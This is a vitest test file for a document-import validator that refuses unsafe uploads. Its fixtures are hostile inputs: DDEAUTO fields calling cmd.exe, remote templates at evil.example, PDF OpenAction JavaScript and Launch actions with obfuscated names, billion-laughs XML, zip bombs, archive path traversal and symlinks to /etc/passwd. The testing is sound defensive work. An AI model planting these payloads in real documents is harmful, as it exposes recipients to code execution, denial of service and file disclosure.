import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, onTestFinished, test, vi } from 'vitest';
import { readBank } from '../bank/read.ts';
import { aDocx, wp } from '../testing/docx-parts.ts';
import { importContent } from '../testing/import-content.ts';
import { rawZip } from '../testing/raw-zip.ts';
import { findOffice } from './convert-old.ts';
import { importFiles } from './import-files.ts';
import { startPandoc } from './pandoc.ts';
import { reasonOf, type Outcome } from './outcome.ts';

const text = wp('Урок проходит в три этапа и кончается вопросом.');
const warm = startPandoc();
afterAll(() => warm.close());
const settings = { today: '2026-11-22', demo: true, author: 'organisation:redakciya' };

/** Files of one folder, by name; what became of each. */
async function imported(files: Readonly<Record<string, string | Uint8Array>>): Promise<Outcome[]> {
  const root = importContent();
  // Hidden from the bank, and gone with it.
  const folder = join(root, '.in');
  mkdirSync(folder);
  for (const [name, bytes] of Object.entries(files)) writeFileSync(join(folder, name), bytes);
  const outcomes = await importFiles([folder], { root, bank: readBank(root).bank, settings, write: true, warm });
  return outcomes.map((outcome) => ({ ...outcome, file: outcome.file.slice(folder.length + 1) }));
}

const compound = (...streams: string[]) =>
  new Uint8Array(
    Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600), ...streams.map((name) => Buffer.from(name, 'utf16le'))]),
  );
const relations = (type: string, target: string) =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
const entities = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ха"><!ENTITY b "&a;&a;">]><x>&b;</x>';
const latin1 = (text: string) => new Uint8Array(Buffer.from(text, 'latin1'));
const utf16 = (xml: string) => new Uint8Array(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(xml, 'utf16le')]));
const pdf = (extra: string, end = '') =>
  `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R${extra}>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R${end}>>\n%%EOF`;

describe('is refused by name, with the way out', () => {
  test.each<[string, string, string | Uint8Array, RegExp]>([
    ['an empty file', 'урок.docx', '', /пустой, 0 байт: скопируйте/],
    ['a text called PDF', 'урок.pdf', 'Ход урока', /назван «\.pdf», а внутри простой текст: простой текст назовите «\.txt»/],
    ['a text called ZIP', 'урок.zip', 'Ход урока', /назван «\.zip», а внутри простой текст/],
    ['a picture called PDF', 'урок.pdf', latin1('\x89PNG\r\n\x1a\n'), /назван «\.pdf», а внутри картинка PNG/],
    ['a picture called DOCX', 'урок.docx', latin1('\xff\xd8\xff'), /назван «\.docx», а внутри/],
    ['a document with a password', 'урок.docx', compound('EncryptionInfo', 'EncryptedPackage'), /зашифрован паролем: снимите пароль/],
    ['a DOC with macros', 'урок.doc', compound('WordDocument', '_VBA_PROJECT'), /макросы/],
    ['an old presentation', 'урок.ppt', compound('PowerPoint Document'), /сохраните её в PPTX/],
    ['macros called DOCX', 'урок.docx', aDocx(text, { parts: { 'word/vbaProject.bin': 'x' } }), /макросы: сохраните/],
    [
      'a type with macros',
      'урок.docx',
      aDocx(text, {
        parts: { '[Content_Types].xml': '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>' },
      }),
      /макросы/,
    ],
    [
      'an outer template',
      'урок.docx',
      aDocx(text, { parts: { 'word/_rels/settings.xml.rels': relations('attachedTemplate', 'http://evil.example/x.dotm') } }),
      /шаблон с чужого адреса/,
    ],
    [
      'a template on a share',
      'урок.docx',
      aDocx(text, { parts: { 'word/_rels/settings.xml.rels': relations('attachedTemplate', '\\\\evil\\x.dotm') } }),
      /шаблон с чужого адреса/,
    ],
    [
      'an outer object',
      'урок.docx',
      aDocx(text, { parts: { 'word/_rels/x.xml.rels': relations('oleObject', 'https://evil.example/x') } }),
      /объект с чужого адреса/,
    ],
    [
      'a field that runs a program',
      'урок.docx',
      aDocx(`${text}<w:p><w:r><w:instrText>DDEAUTO c:\\cmd.exe</w:instrText></w:r></w:p>`),
      /DDE/,
    ],
    [
      'such a field in two pieces',
      'урок.docx',
      aDocx(`${text}<w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\cmd.exe</w:instrText></w:r></w:p>`),
      /DDE/,
    ],
    ['a billion laughs', 'урок.docx', aDocx(text, { parts: { 'word/document.xml': entities } }), /сущности XML/],
    ['laughs in UTF-16', 'урок.docx', aDocx(text, { parts: { 'word/document.xml': utf16(entities) } }), /сущности XML/],
    [
      'a bomb in a document',
      'урок.docx',
      rawZip([
        { name: '[Content_Types].xml', content: '<Types/>' },
        { name: 'word/document.xml', content: new Uint8Array(130e6) },
      ]),
      /130 МБ/,
    ],
    [
      'a document of tightly packed nothing',
      'урок.docx',
      rawZip([
        { name: '[Content_Types].xml', content: '<Types/>' },
        { name: 'word/document.xml', content: new Uint8Array(20e6) },
      ]),
      /бомбы/,
    ],
    [
      'a bomb that lies of its size',
      'урок.docx',
      rawZip([
        { name: '[Content_Types].xml', content: '<Types/>' },
        { name: 'word/document.xml', content: new Uint8Array(5e6), claims: 100 },
      ]),
      /больше, чем сказано в его оглавлении/,
    ],
    ['a document cut short', 'урок.docx', aDocx(text).subarray(0, 700), /повреждён или оборван/],
    ['noise', 'урок.docx', Uint8Array.of(0xfe, 1, 2, 0, 3), /внутри что-то другое или он повреждён/],
    ['a text called a document', 'урок.docx', 'просто текст', /простой текст/],
    ['a PDF with a password', 'урок.pdf', pdf('', '/Encrypt 9 0 R'), /зашифрован паролем/],
    ['a PDF with a program', 'урок.pdf', pdf('/OpenAction<</S/JavaScript/JS(app.alert(1))>>'), /JavaScript/],
    ['a PDF that launches', 'урок.pdf', pdf('/OpenAction<</S/Launch/F(cmd.exe)>>'), /запускает программу/],
    ['a PDF with a program under other letters', 'урок.pdf', pdf('/OpenAction<</S/Java#53cript/J#53(app.alert(1))>>'), /JavaScript/],
    [
      'a PDF that launches behind a comment',
      'урок.pdf',
      pdf('/A%stream\n 1/OpenAction<</S/Launc#68/F(cmd.exe)>>%endstream\n'),
      /запускает программ/,
    ],
    [
      'a PDF packed in another way',
      'урок.pdf',
      `${pdf('')}\n9 0 obj<</Type/ObjStm/N 1/First 4/Filter/LZWDecode>>stream\nx\nendstream endobj`,
      /^часть PDF упакована так, что проверить её нельзя: напечатайте файл/,
    ],
    ['a PDF with files', 'урок.pdf', pdf('/Names<</EmbeddedFiles 5 0 R>>'), /вложены другие файлы/],
    ['a broken PDF', 'урок.pdf', '%PDF-1.7\nx', /PDF повреждён/],
    ['an RTF with an object', 'урок.rtf', '{\\rtf1{\\object\\objdata 01}}', /вложенный объект/],
    ['an archive of another kind', 'урок.rar', 'Rar!\x1a\x07\x00', /упакуйте файлы в ZIP/],
    ['a program', 'урок.exe', 'MZ\0\0', /программа/],
    ['a page without words', 'урок.html', '<html><body><script>x</script></body></html>', /нет текста/],
    ['a page of endless depth', 'урок.html', `<html>${'<div>'.repeat(2000)}x`, /вложены/],
    ['an empty archive', 'урок.zip', rawZip([]), /архив пустой/],
    ['a cut archive', 'урок.zip', rawZip([{ name: 'a.docx', content: 'x' }]).subarray(0, 40), /архив повреждён/],
    [
      'an archive of too many files',
      'урок.zip',
      rawZip(Array.from({ length: 10_001 }, (_, index) => ({ name: `${index}` }))),
      /можно не больше 10000/,
    ],
    ['a bomb of a gigabyte', 'урок.zip', rawZip([{ name: 'a.docx', claims: 1e9 }]), /1000 МБ/],
  ])('%s', async (_name, file, bytes, reason) => {
    // Whatever is beside it goes on: a neighbour is taken as ever.
    const outcomes = await imported({ [file]: bytes, 'сосед.odp': 'x' });
    expect(outcomes.find((outcome) => outcome.file === file)).toEqual({ file, state: 'refused', reason: expect.stringMatching(reason) });
    expect(outcomes).toHaveLength(2);
  });

  test.each<[string, Parameters<typeof rawZip>[0][number], string, RegExp]>([
    ['a path out of it', { name: '../../x.docx', content: 'x' }, '../../x.docx', /за пределы архива/],
    ['a path of Windows', { name: 'C:\\x.docx', content: 'x' }, 'C:/x.docx', /за пределы архива/],
    ['a name with a zero', { name: 'x\0.docx', content: 'x' }, 'x\uFFFD.docx', /за пределы архива/],
    ['a link', { name: 'x.docx', content: '/etc/passwd', mode: 0o120777 }, 'x.docx', /ссылка на другой файл/],
    ['a password', { name: 'x.docx', content: 'x', flags: 0x801 }, 'x.docx', /зашифрован паролем/],
    ['a lie of the size', { name: 'x.docx', content: 'много слов', claims: 3 }, 'x.docx', /больше, чем сказано/],
    [
      'archives in archives',
      { name: '1.zip', content: rawZip([{ name: '2.zip', content: rawZip([{ name: '3.zip', content: 'x' }]) }]) },
      '1.zip → 2.zip',
      /архив в архиве/,
    ],
  ])('in an archive: %s; its neighbour is still looked at', async (_name, entry, file, reason) => {
    const outcomes = await imported({ 'архив.zip': rawZip([entry, { name: 'пустой.docx' }]) });
    expect(outcomes.map((outcome) => [outcome.file, outcome.state])).toEqual(
      expect.arrayContaining([
        [`архив.zip → ${file}`, 'refused'],
        ['архив.zip → пустой.docx', 'refused'],
      ]),
    );
    expect(outcomes.find((outcome) => outcome.file.endsWith(file))?.reason).toMatch(reason);
    expect(outcomes).toHaveLength(2);
  });

  test('files beside a refused work are told of their own faults', async () => {
    const outcomes = await imported({ 'урок.docx': '', 'урок.pdf': '', 'урок.txt': 'Ключи' });
    expect(outcomes.map(({ state, reason }) => [state, reason])).toEqual([
      ['refused', 'файл пустой, 0 байт: скопируйте его заново'],
      ['refused', 'файл пустой, 0 байт: скопируйте его заново'],
      ['refused', 'работа «урок.docx», к которой он относится, не принята'],
    ]);
  });

  test('a link on the disk', async () => {
    const root = importContent();
    const link = join(root, 'link.docx');
    symlinkSync('/etc/passwd', link);
    const [outcome] = await importFiles([link], { root, bank: readBank(root).bank, settings, write: false });
    expect(outcome).toMatchObject({ state: 'refused', reason: expect.stringMatching(/ссылка/) });
  });
});

describe('litter is passed by, but named', () => {
  test.each(['~$урок.docx', 'Thumbs.db', '.DS_Store', 'desktop.ini'])('%s', async (file) =>
    expect(await imported({ [file]: 'x' })).toEqual([{ file, state: 'skipped', reason: expect.any(String) }]),
  );
});

test.each([
  ['EACCES', /нет прав на чтение/],
  ['EBUSY', /закройте его/],
  ['ENOSPC', /кончилось место/],
  ['EFBIG', /больше, чем позволяет диск/],
])('the words for %s', (code, words) => expect(reasonOf(Object.assign(new Error(), { code }))).toMatch(words));

describe('an old document', () => {
  const rtf =
    '{\\rtf1\\ansicpg1251 \\u1050?\\u1072?\\u1082? \\u1088?\\u1072?\\u1089?\\u1090?\\u1105?\\u1090? \\u1083?\\u1105?\\u1085?\\par}';
  test('without LibreOffice is refused with both ways out', async () => {
    vi.stubEnv('SOFFICE', '/nowhere');
    expect((await imported({ 'a.rtf': rtf }))[0]?.reason).toBe(
      'документ прежнего вида (RTF): сохраните его в DOCX и повторите или установите LibreOffice',
    );
    vi.unstubAllEnvs();
  });
  /** What must come of it, whoever saves it anew. */
  const draft = {
    state: 'draft',
    title: 'Как растёт лён',
    warnings: expect.arrayContaining([expect.stringMatching(/пересохранён в DOCX/)]) as string[],
  };
  test('with a program in the place of LibreOffice becomes a draft', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'kopilka-office-'));
    onTestFinished(() => rmSync(folder, { recursive: true }));
    writeFileSync(join(folder, 'lyon.docx'), aDocx(wp('Как растёт лён')));
    const program = join(folder, 'soffice');
    // Takes what LibreOffice is told and puts the document where it would: beside what it was given.
    writeFileSync(
      program,
      `#!${process.execPath}\nconst at = process.argv.indexOf('--outdir');\nrequire('node:fs').copyFileSync(${JSON.stringify(join(folder, 'lyon.docx'))}, process.argv[at + 1] + '/in.docx');\n`,
      { mode: 0o755 },
    );
    vi.stubEnv('SOFFICE', program);
    expect((await imported({ 'a.rtf': rtf }))[0]).toMatchObject(draft);
    writeFileSync(program, `#!${process.execPath}\nprocess.exit(1);\n`);
    expect((await imported({ 'a.rtf': rtf }))[0]?.reason).toMatch(/LibreOffice его не открыл/);
    vi.unstubAllEnvs();
  });
  // Half a gigabyte that no test installs: where it is, it is tried too.
  test.runIf(findOffice())('with LibreOffice itself becomes a draft', { timeout: 120_000 }, async () =>
    expect((await imported({ 'a.rtf': rtf }))[0]).toMatchObject(draft),
  );
});
